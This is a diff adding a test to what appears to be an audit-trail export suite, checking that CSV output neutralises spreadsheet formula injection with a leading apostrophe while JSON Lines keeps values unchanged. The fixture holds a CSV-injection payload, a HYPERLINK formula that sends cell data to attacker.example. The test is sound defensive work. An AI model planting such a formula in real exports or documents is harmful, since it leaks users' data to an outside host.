@@ -62,6 +62,20 @@ describe('exports of the trail', () => {
     expect(rows.map((r) => r.position)).toEqual([...positions.map(String), prepared.seal.event.position.toString()]);
   });
 
+  it('writes a name or a text a spreadsheet would run as a formula with a leading apostrophe (CSV injection); JSON Lines as typed', async () => {
+    await appendTo(t.store, 'meeting-kl.rada-1', ['MeetingClosed'], { actor: 'p-evil' });
+    const name = '=HYPERLINK("http://attacker.example/?"&A1,"open")';
+    const people = (personId: string) => ({ name: personId === 'p-evil' ? name : '+48 600 000 000', erased: false });
+    const prepared = (await prepareExport(t.store, 'kl', { sealing: { key }, people }))!;
+    const rows = parse(await text(prepared.stream('csv')), { columns: true, bom: true }) as Record<string, string>[];
+    expect(rows.find((r) => r.actor === 'p-evil')!.actor_name).toBe(`'${name}`);
+    expect(rows.find((r) => r.actor === 'p1')!.actor_name).toBe("'+48 600 000 000");
+    // Nothing else is touched: every other field reads as written.
+    expect(rows.every((r) => !r.position.startsWith("'") && !r.act_en.startsWith("'"))).toBe(true);
+    const lines = (await text(prepared.stream('jsonl'))).trimEnd().split('\n').map((l) => JSON.parse(l));
+    expect(lines.find((l) => l.event?.metadata.actor === 'p-evil').entry.actor.name).toBe(name);
+  });
+
   it('reuses the latest seal when it covers everything, and seals anew when the cluster moved on', async () => {
     const first = (await prepareExport(t.store, 'kl', { sealing: { key } }))!;
     expect((await prepareExport(t.store, 'kl', { sealing: { key } }))!.seal.event.id).toBe(first.seal.event.id);
